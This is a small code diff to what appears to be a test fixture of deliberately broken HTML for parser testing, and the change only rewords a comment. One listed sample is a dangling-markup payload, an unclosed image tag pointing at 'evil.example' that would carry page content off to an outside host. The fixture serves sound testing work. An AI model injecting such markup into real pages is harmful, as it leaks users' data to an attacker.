@@ -1,6 +1,6 @@
 const DEEP = 100;
 
-/** Markup that is cut, nested or written so that parsers disagree about it. */
+/** Truncated, nested or ambiguous markup that parsers interpret differently. */
 export const BROKEN = {
   'dangling markup': [
     "<img src='https://evil.example/?",
